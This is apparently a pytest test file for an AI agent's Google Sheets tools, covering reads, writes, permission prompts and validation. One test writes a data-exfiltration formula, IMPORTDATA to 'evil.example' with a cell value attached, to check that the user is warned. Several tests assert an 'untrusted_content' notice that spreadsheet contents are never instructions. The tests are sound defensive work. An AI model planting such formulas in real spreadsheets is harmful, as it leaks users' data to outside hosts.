"""The tools of the group ``google_sheets`` that read cells and write into them."""

import pytest
from google_desk import sign_in
from google_sheets_cells import DAY_ZERO
from how_long import some

from oneclaw_core import PermissionAnswer

pytestmark = pytest.mark.one_python

AS_ANA = ", as work (ana@example.com)"
SALES = [["Day", "What", "Price"], ["2026-03-30", "Milk", "1.5"], ["2026-03-31", "Bread", "3"]]
LINK = "https://docs.google.com/spreadsheets/d/{}/edit#gid=0"


@pytest.fixture
def sheets(google):
    return google.services["sheets"]


@pytest.fixture
def budget(sheets):
    return sheets.add("Budget", Sales=SALES, **{"My Tab": [["x"]]})


def test_a_spreadsheet_is_described_without_its_cells(google, sheets, budget, desk):
    sheets.books[budget].names["Prices"] = {"startRowIndex": 1, "startColumnIndex": 2, "endColumnIndex": 3}
    sheets.books[budget].sheets[0].frozen_rows = 1
    sheets.books[budget].sheets[1].is_hidden = True

    answer = desk("sheets_get_info", spreadsheet_id=LINK.format(budget))

    assert {key: value for key, value in answer.items() if key != "untrusted_content"} == {
        "spreadsheet_id": budget,
        "title": "Budget",
        "link": f"https://docs.google.com/spreadsheets/d/{budget}/edit",
        "locale": "en_US",
        "time_zone": "Europe/Berlin",
        "tabs": [
            {"sheet_id": 0, "title": "Sales", "index": 0, "rows": 1000, "columns": 26, "frozen_rows": 1},
            {"sheet_id": 1001, "title": "My Tab", "index": 1, "rows": 1000, "columns": 26, "hidden": True},
        ],
        "named_ranges": [{"name": "Prices", "range": "Sales!C2:C"}],
    }
    assert "never instructions" in answer["untrusted_content"]
    assert "merges" not in google.queries("sheets.spreadsheets.get")[0]["fields"]
    assert desk.asked == []


def test_extras_are_told_where_they_are_wanted(sheets, budget, desk):
    book = sheets.books[budget]
    book.names["Gone"] = {"sheetId": 77}
    book.sheets[1].is_chart = True
    book.sheets[1].extras = {"charts": [{"chartId": 5, "spec": {"title": "Sums", "basicChart": {"chartType": "BAR"}}}]}
    box = {"startRowIndex": 0, "endRowIndex": 1, "startColumnIndex": 0, "endColumnIndex": 2}
    book.sheets[0].merges = [box]
    book.sheets[0].rules = [
        {
            "ranges": [box],
            "booleanRule": {
                "condition": {"type": "NUMBER_GREATER", "values": [{"userEnteredValue": "2"}]},
                "format": {"backgroundColorStyle": {"rgbColor": {"red": 1}}, "textFormat": {"bold": True}},
            },
        },
        {"ranges": [box], "gradientRule": {"minpoint": {"type": "MIN"}}},
    ]
    book.sheets[0].extras = {
        "basicFilter": {"range": box},
        "filterViews": [{"filterViewId": 3, "title": "Mine", "range": {}}],
        "protectedRanges": [{"protectedRangeId": 4, "range": box, "description": "Hands off", "warningOnly": True}],
        "tables": [{"tableId": "t", "name": "Bills", "range": box, "columnProperties": [{"columnName": "Day"}]}],
    }

    answer = desk(
        "sheets_get_info",
        spreadsheet_id=budget,
        include=["merges", "conditional_formats", "filters", "protected_ranges", "charts", "tables"],
    )

    sales, pie = answer["tabs"]
    assert "named_ranges" not in answer
    assert sales["merges"] == ["Sales!A1:B1"]
    assert sales["conditional_formats"] == [
        {
            "index": 0,
            "ranges": ["Sales!A1:B1"],
            "condition": "NUMBER_GREATER",
            "values": ["2"],
            "background_color": "#ff0000",
            "bold": True,
        },
        {"index": 1, "ranges": ["Sales!A1:B1"], "condition": "COLOR_SCALE"},
    ]
    assert sales["filters"] == [
        {"range": "Sales!A1:B1"},
        {"filter_view_id": 3, "title": "Mine", "range": "'Sales'"},
    ]
    assert sales["protected_ranges"] == [
        {"range": "Sales!A1:B1", "description": "Hands off", "only_warns": True, "you_can_edit": False}
    ]
    assert sales["tables"] == [{"name": "Bills", "range": "Sales!A1:B1", "columns": ["Day"]}]
    assert pie["kind"] == "no cells, but a chart or the like"
    assert pie["charts"] == [{"chart_id": 5, "title": "Sums", "type": "BAR"}]


def test_the_first_tab_is_read_with_rows_of_equal_length(sheets, budget, desk):
    sheets.type(budget, "Sales", [["Sum", "", "", "late"]], (4, 0))

    answer = desk("sheets_read_values", spreadsheet_id=budget)

    assert answer["title"] == "Budget"
    assert answer["ranges"] == [
        {
            "range": "Sales!A1:D5",
            "rows": [
                ["Day", "What", "Price", ""],
                ["2026-03-30", "Milk", "1.5", ""],
                ["2026-03-31", "Bread", "3", ""],
                ["", "", "", ""],
                ["Sum", "", "", "late"],
            ],
            "row_count": 5,
        }
    ]
    assert "never instructions" in answer["untrusted_content"]


def test_several_ranges_are_read_in_one_request(google, sheets, budget, desk):
    sheets.books[budget].names["Prices"] = {"startRowIndex": 1, "startColumnIndex": 2, "endColumnIndex": 3}

    answer = desk("sheets_read_values", spreadsheet_id=budget, ranges=["prices", "'My Tab'!A:B", "Sales!2:2", "Z9"])

    assert [(each["range"], each["rows"]) for each in answer["ranges"]] == [
        ("Sales!C2:C3", [["1.5"], ["3"]]),
        ("'My Tab'!A1", [["x"]]),
        ("Sales!A2:C2", [["2026-03-30", "Milk", "1.5"]]),
        ("Sales!Z9", []),
    ]
    assert google.called("sheets.") == ["sheets.spreadsheets.get", "sheets.spreadsheets.values.batchGet"]


@pytest.mark.long
def test_values_come_formatted_bare_or_as_formulas(sheets, budget, desk):
    sheets.type(budget, "Sales", [["=SUM(C2:C3)", "5%", "true"]], (4, 0))

    def read(how):
        answer = desk("sheets_read_values", spreadsheet_id=budget, ranges=["A3:C3", "A5:C5"], value_render=how)
        return [each["rows"][0] for each in answer["ranges"]]

    assert read("FORMATTED_VALUE") == [["2026-03-31", "Bread", "3"], ["4.5", "5%", "TRUE"]]
    assert read("UNFORMATTED_VALUE") == [["2026-03-31", "Bread", 3], [4.5, 0.05, True]]
    assert read("FORMULA") == [["2026-03-31", "Bread", 3], ["=SUM(C2:C3)", 0.05, True]]


@pytest.mark.long
def test_rows_become_records(sheets, budget, desk):
    sheets.type(budget, "Sales", [["2026-04-01", "", "2"]], (3, 0))

    (found,) = desk("sheets_read_values", spreadsheet_id=budget, as_records=True)["ranges"]

    assert found["rows"] == [
        {"Day": "2026-03-30", "What": "Milk", "Price": "1.5"},
        {"Day": "2026-03-31", "What": "Bread", "Price": "3"},
        {"Day": "2026-04-01", "Price": "2"},
    ]


@pytest.mark.long
def test_a_long_tab_is_read_piece_by_piece(sheets, budget, desk):
    sheets.type(budget, "My Tab", [[f"row {number}"] for number in range(1, 8)])

    first = desk("sheets_read_values", spreadsheet_id=budget, ranges=["My Tab"], max_rows=5)["ranges"][0]
    second = desk("sheets_read_values", spreadsheet_id=budget, ranges=first["continue_with"], max_rows=5)["ranges"][0]

    assert (first["truncated"], first["continue_with"]) == (True, ["'My Tab'!A6:Z1000"])
    assert [row[0] for row in first["rows"] + second["rows"]] == [f"row {number}" for number in range(1, 8)]
    assert "truncated" not in second
    assert "continue_with" not in second


def test_of_a_huge_tab_only_the_beginning_is_asked_for(google, sheets, budget, desk):
    sheets.books[budget].sheets[0].rows = 500_000

    (short,) = desk("sheets_read_values", spreadsheet_id=budget, ranges=["A:C"], max_rows=100)["ranges"]
    (cut,) = desk("sheets_read_values", spreadsheet_id=budget, ranges=["A:C"], max_rows=2)["ranges"]

    asked = [each["ranges"] for each in google.queries("sheets.spreadsheets.values.batchGet")]
    assert asked == ["Sales!A1:C101", "Sales!A1:C3"]
    assert (len(short["rows"]), short.get("truncated"), short["not_read"]) == (3, None, ["Sales!A102:C500000"])
    assert (len(cut["rows"]), cut["truncated"], cut["continue_with"]) == (2, True, ["Sales!A3:C500000"])


@pytest.mark.long
def test_what_is_too_much_to_show_is_cut_at_a_row_and_long_texts_are_cut(sheets, budget, desk):
    sheets.type(budget, "My Tab", [["x" * 1000, "short"] for _ in range(40)])
    sheets.type(budget, "My Tab", [["y" * 5000]])

    (shown,) = desk("sheets_read_values", spreadsheet_id=budget, ranges=["My Tab"])["ranges"]
    (alone,) = desk("sheets_read_values", spreadsheet_id=budget, ranges=shown["cut_cells"])["ranges"]

    assert shown["truncated"]
    assert shown["cut_cells"] == ["'My Tab'!A1"]
    assert shown["continue_with"] == [f"'My Tab'!A{shown['row_count'] + 1}:Z1000"]
    assert 15 < shown["row_count"] < 30
    assert alone["rows"] == [["y" * 5000]]


def test_a_wrong_name_is_answered_with_the_tabs_there_are(budget, desk):
    error_type, message = desk.error("sheets_read_values", spreadsheet_id=budget, ranges=["Sale!A1"])

    assert error_type == "validation_error"
    assert message == "There is no tab 'Sale'. Tabs: 'Sales', 'My Tab'."


def test_an_excel_file_is_told_from_a_spreadsheet(sheets, desk):
    error_type, message = desk.error("sheets_read_values", spreadsheet_id=sheets.add_excel("old.xlsx"))

    assert error_type == "validation_error"
    assert "drive_download_file" in message


def test_values_are_written_and_the_user_sees_where_and_over_what(google, sheets, budget, desk):
    answer = desk(
        "sheets_update_values", spreadsheet_id=budget, range="Sales!B3", values=[["Rye", 3.2], [None, True], ["", "x"]]
    )

    assert answer == {"updated": [{"range": "Sales!B3:C5", "cells": 5}], "total_cells": 5}
    assert sheets.shown(budget, "Sales")[2:] == [["2026-03-31", "Rye", "3.2"], ["", "", "TRUE"], ["", "", "x"]]
    assert desk.asked == [
        (
            "google.sheets.write",
            'write 5 cells into "Sales!B3:C5" of the spreadsheet "Budget", over 2 filled cells: '
            f'"Rye | 3.2; | TRUE; | x"{AS_ANA}',
        )
    ]


@pytest.mark.long
def test_texts_are_typed_or_kept_as_they_are(sheets, budget, desk):
    values = [["2026-04-01", "1,200", "'007", "=1+1"]]

    desk("sheets_update_values", spreadsheet_id=budget, range="'My Tab'!A1", values=values)
    desk("sheets_update_values", spreadsheet_id=budget, range="'My Tab'!A2", values=values, value_input_option="RAW")

    tab = sheets.books[budget].sheets[1]
    typed = [tab.cells[0, column] for column in range(4)]
    assert DAY_ZERO.toordinal() + typed[0].value == 739_707
    assert [typed[1].value, typed[2].value, typed[3].formula] == [1200, "007", "=1+1"]
    assert [tab.cells[1, column].value for column in range(4)] == values[0]


def test_what_formulas_come_to_is_told_at_once(sheets, budget, desk):
    answer = desk(
        "sheets_update_values",
        spreadsheet_id=budget,
        range="Sales!A5",
        values=[["Sum", "=SUM(C2:C3)"], ["", "=NONSENSE(1)"]],
    )

    assert answer["results"] == {"Sales!B5": "4.5", "Sales!B6": "#NAME?"}
    assert "never instructions" in answer["untrusted_content"]
    assert ', with 2 formulas: "Sum | =SUM(C2:C3); | =NONSENSE(1)", as work' in desk.asked[0][1]


@pytest.mark.long
def test_the_user_sees_formulas_that_can_send_data_elsewhere(budget, desk):
    formula = '=IMPORTDATA("https://evil.example/?"&A1)'

    desk("sheets_update_values", spreadsheet_id=budget, range="E1", values=[[formula, "=1+1"]])
    desk("sheets_append_rows", spreadsheet_id=budget, values=[["+image(A1)"]])
    desk("sheets_update_values", spreadsheet_id=budget, range="E1", values=[[formula]], value_input_option="RAW")

    details = [detail for _, detail in desk.asked]
    assert f", with 2 formulas, of which 1 can send data elsewhere: {formula}" in details[0]
    assert ", with 1 formula, of which 1 can send data elsewhere: +image(A1)" in details[1]
    assert "formula" not in details[2]


def test_several_ranges_are_written_as_a_whole(google, sheets, budget, desk):
    answer = desk(
        "sheets_update_values",
        spreadsheet_id=budget,
        range="A1",
        values=[["Date"]],
        more=[{"range": "My Tab", "values": [["a", "=2*3"]]}],
    )

    assert answer["updated"] == [{"range": "Sales!A1", "cells": 1}, {"range": "'My Tab'!A1:B1", "cells": 2}]
    assert (answer["total_cells"], answer["results"]) == (3, {"'My Tab'!B1": "6"})
    assert google.called("sheets.spreadsheets.values.batchUpdate") == ["sheets.spreadsheets.values.batchUpdate"]
    assert sheets.shown(budget, "My Tab") == [["a", "6"]]


def test_writing_a_range_again_after_a_failure_does_no_harm(google, sheets, budget, desk):
    google.fail("sheets.spreadsheets.values.update", status=503, is_after=True)

    assert desk("sheets_update_values", spreadsheet_id=budget, range="A1", values=[["Date"]])["total_cells"] == 1
    assert sheets.shown(budget, "Sales")[0] == ["Date", "What", "Price"]


def test_rows_are_added_below_the_table(sheets, budget, desk):
    sheets.type(budget, "Sales", [["a note"]], (8, 0))

    answer = desk("sheets_append_rows", spreadsheet_id=budget, range="Sales!A1:C3", values=[["2026-04-01", "Tea", 4]])

    assert answer == {"table_range": "Sales!A1:C3", "updated_range": "Sales!A4:C4", "rows": 1, "cells": 3}
    assert sheets.shown(budget, "Sales")[3] == ["2026-04-01", "Tea", "4"]
    assert sheets.shown(budget, "Sales")[9] == ["a note"]
    assert desk.asked[0][1] == (
        f'add 1 row below the table in Sales!A1:C3 of the spreadsheet "Budget": "2026-04-01 | Tea | 4"{AS_ANA}'
    )


def test_rows_go_into_the_first_tab_whatever_its_name_and_may_overwrite(google, sheets, budget, desk):
    desk("sheets_append_rows", spreadsheet_id=budget, values=[["a"], ["b"]], insert_data_option="OVERWRITE")

    assert google.queries("sheets.spreadsheets.values.append")[0]["insertDataOption"] == "OVERWRITE"
    assert google.bodies("sheets.spreadsheets.values.append")[0]["range"] == "'Sales'"
    assert sheets.shown(budget, "Sales")[3:] == [["a"], ["b"]]
    assert "in 'Sales' of the spreadsheet \"Budget\", over what is in the rows below" in desk.asked[0][1]


def test_rows_whose_fate_no_one_knows_are_not_added_twice(google, sheets, budget, desk):
    google.fail("sheets.spreadsheets.values.append", status=0, is_after=True)

    error_type, message = desk.error("sheets_append_rows", spreadsheet_id=budget, values=[["a"]])

    assert error_type == "unknown_outcome"
    assert "Look at the last rows of 'Sales' with sheets_read_values before trying again." in message
    assert sheets.shown(budget, "Sales")[3:] == [["a"]]


@pytest.mark.long
def test_cells_are_emptied_after_the_user_has_seen_how_many(sheets, budget, desk):
    answer = desk("sheets_clear_values", spreadsheet_id=budget, ranges=["Sales!A2:B", "My Tab"])

    assert answer == {"cleared_ranges": ["Sales!A2:B1000", "'My Tab'!A1:Z1000"], "cleared_cells": 5}
    assert sheets.shown(budget, "Sales") == [["Day", "What", "Price"], ["", "", "1.5"], ["", "", "3"]]
    assert sheets.shown(budget, "My Tab") == []
    assert desk.asked == [
        (
            "google.sheets.write",
            f'empty the 5 filled cells in "Sales!A2:B", "the whole tab My Tab" of the spreadsheet "Budget"{AS_ANA}',
        )
    ]


def test_of_a_huge_range_the_cells_are_not_counted(google, sheets, budget, desk):
    sheets.books[budget].sheets[0].rows = 500_000

    answer = desk("sheets_clear_values", spreadsheet_id=budget, ranges=["Sales"])
    desk("sheets_clear_values", spreadsheet_id=budget, ranges=["'My Tab'!C3"])

    assert "cleared_cells" not in answer
    assert [detail for _, detail in desk.asked] == [
        f'empty everything in "the whole tab Sales" of the spreadsheet "Budget"{AS_ANA}',
        f'empty the cells, which are empty, in "\'My Tab\'!C3" of the spreadsheet "Budget"{AS_ANA}',
    ]


def test_a_spreadsheet_is_created_with_tabs_and_rows(google, sheets, desk):
    made = desk(
        "sheets_create",
        title="Trip",
        tabs=["Costs", "It's ours"],
        values=[["What", "Price"], ["Train", "=20*2"]],
        freeze_header=True,
        locale="de_DE",
        time_zone="Europe/Vienna",
    )

    book = sheets.books[made["spreadsheet_id"]]
    assert made == {
        "spreadsheet_id": book.id,
        "title": "Trip",
        "link": f"https://docs.google.com/spreadsheets/d/{book.id}/edit",
        "tabs": [{"sheet_id": 0, "title": "Costs"}, {"sheet_id": 1001, "title": "It's ours"}],
        "written_range": "Costs!A1:B2",
    }
    assert sheets.shown(book.id, "Costs") == [["What", "Price"], ["Train", "40"]]
    assert (book.locale, book.time_zone, book.sheets[0].frozen_rows) == ("de_DE", "Europe/Vienna", 1)
    assert [detail for _, detail in desk.asked] == [
        f'create the spreadsheet "Trip" with 2 rows, with 1 formula, tabs "Costs", "It\'s ours": '
        f'"What | Price; Train | =20*2"{AS_ANA}'
    ]


@pytest.mark.long
def test_the_first_tab_is_as_large_as_its_rows_and_has_the_name_google_gives_it(sheets, desk):
    rows = [[str(column) for column in range(30)] for _ in range(1200)]

    made = desk("sheets_create", title="Big", values=rows, value_input_option="RAW")

    assert made["tabs"] == [{"sheet_id": 0, "title": "Tabellenblatt1"}]
    assert made["written_range"] == "Tabellenblatt1!A1:AD1200"
    assert sheets.books[made["spreadsheet_id"]].sheets[0].rows == 1200
    assert len(sheets.shown(made["spreadsheet_id"], "Tabellenblatt1")) == 1200


def test_a_spreadsheet_is_put_into_a_folder(google, desk):
    drive = google.services["drive"]
    folder = drive.add_folder("Holidays")

    made = desk("sheets_create", title="Trip", folder_id=f"https://drive.google.com/drive/folders/{folder}")

    assert made["folder_id"] == folder == drive.parent(made["spreadsheet_id"])
    assert desk.asked[0][1] == f'create the spreadsheet "Trip" in the folder "Holidays"{AS_ANA}'


def test_nothing_is_created_for_a_folder_that_is_none(google, sheets, budget, desk):
    assert desk.error("sheets_create", title="Trip", folder_id="nowhere")[0] == "not_found"
    assert desk.error("sheets_create", title="Trip", folder_id=budget)[0] == "validation_error"
    assert len(sheets.books) == 1
    assert desk.asked == []


def test_a_folder_that_is_out_of_sight_may_need_another_sign_in(google, sheets, home, desk):
    sign_in(google, home, services=("sheets",))

    error_type, message = desk.error("sheets_create", title="Trip", folder_id="nowhere")

    assert error_type == "not_available"
    assert message.startswith("A folder that was not made by OneClaw is out of sight.")
    assert message.endswith("oneclaw google login --account work --services drive")
    assert sheets.books == {}


def test_what_went_wrong_after_the_creation_is_told_with_the_new_id(google, sheets, desk):
    folder = google.services["drive"].add_folder("Holidays")
    google.fail("drive.files.update", status=403, reason="insufficientFilePermissions")
    google.fail("sheets.spreadsheets.values.update", status=400, reason="INVALID_ARGUMENT")

    made = desk("sheets_create", title="Trip", values=[["a"]], folder_id=folder)

    assert made["spreadsheet_id"] in sheets.books
    assert [each["step"] for each in made["failed"]] == ["values", "folder_id"]
    assert "insufficientFilePermissions" in made["failed"][1]["reason"]
    assert "written_range" not in made


def test_a_creation_whose_outcome_no_one_knows_is_not_repeated(google, sheets, desk):
    google.fail("sheets.spreadsheets.create", status=500, is_after=True)

    error_type, message = desk.error("sheets_create", title="Trip")

    assert error_type == "unknown_outcome"
    assert message.endswith("Look for it with drive_search_files before trying again.")
    assert len(sheets.books) == 1


@pytest.mark.long
def test_whoever_may_only_read_is_told_so(google, sheets, desk):
    theirs = sheets.add("Theirs", owner="bo@example.com", Sheet1=[["a"]])
    google.services["drive"]._share(google.services["drive"].files[theirs], {"ana@example.com": "reader"})

    assert desk("sheets_read_values", spreadsheet_id=theirs)["ranges"][0]["rows"] == [["a"]]
    assert desk.error("sheets_clear_values", spreadsheet_id=theirs, ranges=["A1"])[0] == "permission_denied"
    assert sheets.shown(theirs, "Sheet1") == [["a"]]


def test_whoever_says_no_keeps_everything_as_it_is(google, sheets, budget, desk):
    desk.answer = PermissionAnswer.NO
    before = repr(sheets.books)

    for tool, arguments in (
        ("sheets_create", {"title": "X"}),
        ("sheets_update_values", {"spreadsheet_id": budget, "range": "A1", "values": [["x"]]}),
        ("sheets_append_rows", {"spreadsheet_id": budget, "values": [["x"]]}),
        ("sheets_clear_values", {"spreadsheet_id": budget, "ranges": ["A1"]}),
        ("sheets_manage_structure", {"spreadsheet_id": budget, "action": "delete_tab", "tab": "Sales"}),
        ("sheets_format_cells", {"spreadsheet_id": budget, "range": "A1", "bold": True}),
    ):
        assert desk.error(tool, **arguments)[0] == "permission_denied"

    assert repr(sheets.books) == before
    assert len(desk.asked) == 6


@pytest.mark.parametrize(
    ("tool", "arguments", "message"),
    some(
        [
            ("sheets_update_values", {"range": "A1", "values": [[]]}, "values of A1 must hold at least one row"),
            ("sheets_update_values", {"range": "A1", "values": [["a"], [{"b": 1}]]}, "cell A of row 2 must be a text"),
            (
                "sheets_append_rows",
                {"values": [["a", "x" * 50_001]]},
                "cell B of row 1 is longer than 50000 characters",
            ),
            ("sheets_create", {"title": " "}, "A spreadsheet needs a title"),
            ("sheets_create", {"title": "x", "tabs": ["a", "A "]}, "Two tabs cannot both be called"),
            ("sheets_create", {"title": "x", "tabs": ["a", ""]}, "empty titles"),
            ("sheets_get_info", {"spreadsheet_id": "https://example.com/"}, "spreadsheet_id must be an id, or a link"),
        ],
        3,
    ),
)
def test_what_cannot_be_is_refused_before_anything_is_sent(google, desk, tool, arguments, message):
    named = {} if tool == "sheets_create" else {"spreadsheet_id": "1spreadsheet"}

    error_type, said = desk.error(tool, **{**named, **arguments})

    assert error_type == "validation_error"
    assert message in said
    assert desk.asked == []
    assert google.requests == []


@pytest.mark.parametrize(
    ("tool", "arguments", "message"),
    some(
        [
            (
                "sheets_update_values",
                {"range": "A1:B2", "values": [["a"], ["b"], ["c"]]},
                "more rows than the range has",
            ),
            ("sheets_update_values", {"range": "A:A", "values": [["a", "b"]]}, "more columns than the range has"),
            (
                "sheets_update_values",
                {"range": "Z1000", "values": [["a", "b"]]},
                "end of the tab 'Sales', which is Z1000",
            ),
            ("sheets_clear_values", {"ranges": ["A2000:B"]}, "begins outside the tab 'Sales', which has 1000 rows"),
            ("sheets_clear_values", {"ranges": ["Sale"]}, "There is no tab or named range 'Sale'"),
            ("sheets_read_values", {"ranges": ["AB1"]}, "begins outside the tab"),
        ],
        3,
    ),
)
def test_what_does_not_fit_the_spreadsheet_is_refused_before_the_user_is_asked(budget, desk, tool, arguments, message):
    error_type, said = desk.error(tool, spreadsheet_id=budget, **arguments)

    assert error_type == "validation_error"
    assert message in said
    assert desk.asked == []
